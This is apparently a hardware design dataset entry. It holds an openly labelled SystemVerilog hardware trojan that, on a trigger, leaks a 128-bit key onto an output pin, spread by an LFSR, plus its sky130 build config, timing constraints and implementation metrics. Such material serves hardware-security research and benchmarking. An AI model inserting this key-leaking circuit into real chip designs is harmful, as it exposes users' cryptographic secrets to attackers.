## src/rtl/trojan_key_leaker.sv

```systemverilog
`default_nettype none
// ============================================================================
// Module   : trojan_key_leaker
// Brief    : Serialises a captured 128-bit key MSB-first, LFSR-spread, onto a pin.
// Revision : 1.0
// ============================================================================
module trojan_key_leaker #(
    parameter int          CHIP_LEN  = 8,
    parameter logic [15:0] LFSR_SEED = 16'hACE1
) (
    input  logic         clk,
    input  logic         rst,
    input  logic         Tj_Trig,
    input  logic [127:0] key,
    output logic         leak_out,
    output logic         busy,
    output logic         done
);

    localparam int          CW     = (CHIP_LEN > 1) ? $clog2(CHIP_LEN) : 1;
    localparam logic [CW-1:0] C_LAST = CW'(CHIP_LEN - 1);
    localparam logic [15:0] C_SEED = (LFSR_SEED == 16'h0000) ? 16'h0001 : LFSR_SEED;

    typedef enum logic [1:0] {
        ST_IDLE  = 2'd0,
        ST_SHIFT = 2'd1,
        ST_DONE  = 2'd2
    } state_t;

    state_t        state_q, state_d;
    logic [127:0]  sreg_q, sreg_d;
    logic [15:0]   lfsr_q, lfsr_d;
    logic [CW-1:0] chip_cnt_q, chip_cnt_d;
    logic [6:0]    bit_cnt_q, bit_cnt_d;

    logic          trig_s1_q, trig_s2_q, trig_q;
    logic [1:0]    fill_q;
    logic          armed_q;
    logic          rise;

    // The zeros loaded by reset are not a real low sample of the trigger, so a
    // rise is only accepted once a genuine low has been observed after reset.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            trig_s1_q <= 1'b0;
            trig_s2_q <= 1'b0;
            trig_q    <= 1'b0;
            fill_q    <= 2'b00;
            armed_q   <= 1'b0;
        end else begin
            trig_s1_q <= Tj_Trig;
            trig_s2_q <= trig_s1_q;
            trig_q    <= trig_s2_q;
            fill_q    <= {fill_q[0], 1'b1};
            if (fill_q[1] && !trig_s2_q) begin
                armed_q <= 1'b1;
            end
        end
    end

    assign rise = trig_s2_q & ~trig_q & armed_q;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state_q    <= ST_IDLE;
            sreg_q     <= '0;
            lfsr_q     <= '0;
            chip_cnt_q <= '0;
            bit_cnt_q  <= '0;
        end else begin
            state_q    <= state_d;
            sreg_q     <= sreg_d;
            lfsr_q     <= lfsr_d;
            chip_cnt_q <= chip_cnt_d;
            bit_cnt_q  <= bit_cnt_d;
        end
    end

    always_comb begin
        state_d    = state_q;
        sreg_d     = sreg_q;
        lfsr_d     = lfsr_q;
        chip_cnt_d = chip_cnt_q;
        bit_cnt_d  = bit_cnt_q;
        case (state_q)
            ST_IDLE: begin
                if (rise) begin
                    state_d    = ST_SHIFT;
                    sreg_d     = key;
                    lfsr_d     = C_SEED;
                    chip_cnt_d = '0;
                    bit_cnt_d  = '0;
                end
            end
            ST_SHIFT: begin
                if (!trig_s2_q) begin
                    // Abort wipes the key copy before anything else happens.
                    state_d = ST_IDLE;
                    sreg_d  = '0;
                end else begin
                    lfsr_d = {lfsr_q[14:0], lfsr_q[15] ^ lfsr_q[13] ^ lfsr_q[12] ^ lfsr_q[10]};
                    if (chip_cnt_q == C_LAST) begin
                        chip_cnt_d = '0;
                        sreg_d     = {sreg_q[126:0], 1'b0};
                        bit_cnt_d  = bit_cnt_q + 7'd1;
                        if (bit_cnt_q == 7'd127) begin
                            state_d = ST_DONE;
                        end
                    end else begin
                        chip_cnt_d = chip_cnt_q + CW'(1);
                    end
                end
            end
            ST_DONE: begin
                if (!trig_s2_q) begin
                    state_d = ST_IDLE;
                end
            end
            default: begin
                state_d = ST_IDLE;
            end
        endcase
    end

    assign busy     = (state_q == ST_SHIFT);
    assign done     = (state_q == ST_DONE);
    assign leak_out = busy & (sreg_q[127] ^ lfsr_q[0]);

endmodule
`default_nettype wire

```

## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_key_leaker
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_key_leaker.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 20
export CORE_AREA = 4 4 125 127
export DETAILED_ROUTE_END_ITERATION = 8
export DIE_AREA = 0 0 129 131
export GPL_ROUTABILITY_DRIVEN = 1
export HOLD_SLACK_MARGIN = 0.08
export PLACE_DENSITY = 0.79
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 5
```

## constraint.sdc

```tcl
create_clock -name clk -period 6.6 [get_ports clk]
set_input_delay 0.33 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.33 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
```

==> impl_metrics.json <==
{
  "routabilityCongestion": 0.784,
  "async_flop_share_pct": 100,
  "synth_edf_count": 0,
  "wl_um": 17000,
  "path_clk_slew_ns": 0.06,
  "leakage_nw": 4.59,
  "arrival_ns": 4.15,
  "finalSetupViolCount": 0,
  "drc": 0,
  "viasPerCell": 5.44,
  "period_minus_slack_ns": 3.81,
  "yosysWarnings": 0,
  "syn_inst": 864,
  "num_io_pins": 134,
  "clock-sinks": 162,
  "ys_types": 38,
  "max-clock-path-buffers": 2,
  "path_cells": "buf_4, nand3b_1, o211ai_4, buf_4, buf_4, nand2_1, o21ai_1",
  "htreeDepth": 4,
  "drtIter0Drc": 491,
  "num-fill-cells": 1243,
  "worst_ep_required_time_ns": 6.94,
  "regToRegEndpoint": "sreg_q[118]",
  "port-buffer-count": 133,
  "fin_worst_skew_ns": 0.00829,
  "p_per_area_mw_per_mm2": 322,
  "synth_top_cell_by_area": "dfrtp_1",
  "cp_max_fo": 102,
  "cap_violations": 0,
  "core_area_sq_mm": 0.0144,
  "post_cts_resized": 0,
  "synth.net_count": 998,
  "worstRegToRegCells": 7,
  "first_pass_iters": 6,
  "start_kind": "flip-flop",
  "design_area_sq_mm": 0.00906,
  "nets": 1082,
  "tns_ns": 0,
  "dpl_cell_area_sq_mm": 0.00844,
  "rsz0062_at_grt": "false",
  "synth_seq_area_share_pct": 51.3,
  "tritoncts": "built",
  "wl_per_cell_um": 14.8,
  "timing.final.crit_share_pct": 57.7,
  "dieArea_sq_mm": 0.0169,
  "worst_ir_drop_vdd_mv": 0.211,
  "worstSetupEndpointType": "flip-flop",
  "n_antenna_cell": 0,
  "vias": 6234,
  "antenna_found_initial": 1,
  "fmax_ghz": 0.263,
  "final-hold-violation-count": 0,
  "syn_to_final_growth_pct": 14.7,
  "num_rows": 44,
  "postCtsHoldBufs": 1,
  "cts_made_buffers": 17,
  "path_class": "reg -> reg",
  "critPathSlowestCell": "buf_4",
  "track_usage_pct": 20.9,
  "rr_startpoint": "trig_s2_q",
  "synthTopCellsByCount": "dfrtp_1, and3_1, a21oi_1",
  "die_height_um": 131,
  "ys.flop_type": "dfrtp_1",
  "synth.area.top_cells": "dfrtp_1, and3_1, a21oi_1",
  "avgSynthCellArea_sq_um": 9.15,
  "synth_most_common_cell": "dfrtp_1",
  "cp.buffers_inverters": 3,
  "die_x_um": 129,
  "drive_above_1_share_pct": 27.0,
  "grt_pass1_vias": 5973,
  "reg2reg_slack_ns": 2.79,
  "ant_nets": 0,
  "status": "finished clean",
  "initial_core_util_pct": 54.8,
  "clk_latency_ns": 0.42,
  "worstMarginPinSlew_ns": 1.05,
  "grt_pass1_wl_um": 28600,
  "netlist_area_sq_mm": 0.00790,
  "slew_viol_final": 0,
  "synth_top_cell_area_share_pct": 51.3,
  "synth_seq_cells": 162,
  "relSlewSlack_pct": 30.0,
  "clockRootBuffer": "clkbuf_16",
  "post_cts_buffers": 0,
  "grt-ovfl-total": 0,
  "max_stage_delay_ns": 0.78,
  "dp_hpwl_um": 10200,
  "holdCritPathClass": "in -> async",
  "crit_family": "buffers and inverters",
  "crit_top_cell": "buf_4",
  "grt_max_degree": 125
}
-- cell type report --
cell class	instances	area [sq um]	share of cell area, %
flip-flops and latches	162	4060	44.7
multi-input cells	620	3410	37.6
repair buffers	143	763	8.42
clock buffers	22	474	5.23
well taps	184	230	2.54
clock inverters	10	108	1.19
inverters	4	21.3	0.235
-- how the worst max path moves through the flow --
stage / startpoint / endpoint / slack (ns) / cells after the start
final: trig_s2_q / sreg_q[118] / 2.79 / 7
after global routing: trig_s2_q / sreg_q[127] / 2.44 / 7
after CTS: trig_s2_q / sreg_q[118] / 2.84 / 7
after detailed placement: trig_s2_q / sreg_q[118] / 2.85 / 7
after global placement: trig_s2_q / sreg_q[118] / 2.90 / 6
after floorplan: rst / armed_q / 1.89 / 1
-- kinds of logic (layout without fill, tap and decap cells) --
group	count (synthesis)	after routing	share of synthesized area [%]
buffers and inverters	82	179	5.76
xor gates and xnor gates	7	7	0.776
and+or+nand+nor	320	320	21.0
adders and majority gates	3	3	0.475
other	1	1	0.0475
DFF	162	162	51.3
AOI/OAI and AO/OA	289	289	20.6
-- power by group --
group / total, mW / leakage (nW) / internal [mW] / switching, mW
clock network: 0.968 / 0.293 / 0.584 / 0.383
registers: 1.36 / 2.04 / 1.23 / 0.130
logic: 0.586 / 2.26 / 0.235 / 0.351
-- state kept, by name, indices dropped and copies added, names as in the netlist --
| name | count |
|---|---|
| armed_q | 1 |
| trig_q | 1 |
| chip_cnt_q | 3 |
| sreg_q | 128 |
| state_q | 2 |
| trig_s1_q | 1 |
| lfsr_q | 16 |
| trig_s2_q | 1 |
| fill_q | 2 |
| bit_cnt_q | 7 |
-- placed cells by master, fill, tap and decap left out, types with 2 or more instances in the layout --
master	synthesis	routed
nand2_1	125	125
clkbuf_8	0	3
ha_1	3	3
o211ai_1	4	4
o21ai_2	40	41
clkbuf_16	0	17
nand3_1	2	2
buf_4	1	8
bufinv_16	0	2
a21o_1	2	2
xor2_1	4	4
clkinv_4	0	2
xnor2_1	3	3
nor2_1	14	14
buf_2	32	133
and2_1	2	2
nand2_2	40	40
o21ai_1	111	110
a21oi_1	127	127
and3_1	128	128
dfrtp_1	162	161
clkinv_2	0	7
clkbuf_1	33	2
-- layer usage --
layer / part of all wire, % / GRT usage (%)
met2: 48 / 32.6
met4: 1.1 / 5.44
met5: 0.077 / 0
met3: 5.0 / 5.69
met1: 46 / 29.3
-- through the flow --
stage | hold WS, ns | util (%) | power, mW | worst slack [ns] | instances
3_3_place_gp | 0.332 | 58.5 | 1.93 | 2.90 | 1111
6_report | 0.0796 | 62.8 | 2.91 | 2.79 | 1145
5_1_grt | 0.128 | 62.8 | 3.10 | 2.44 | 1145
2_1_floorplan | 0.331 | - | 1.84 | 1.89 | 864
4_1_cts | 0.110 | 62.6 | 2.94 | 2.84 | 1144
3_5_place_dp | 0.336 | 58.5 | 1.96 | 2.85 | 1111
Power figures use the tool's default switching activity.
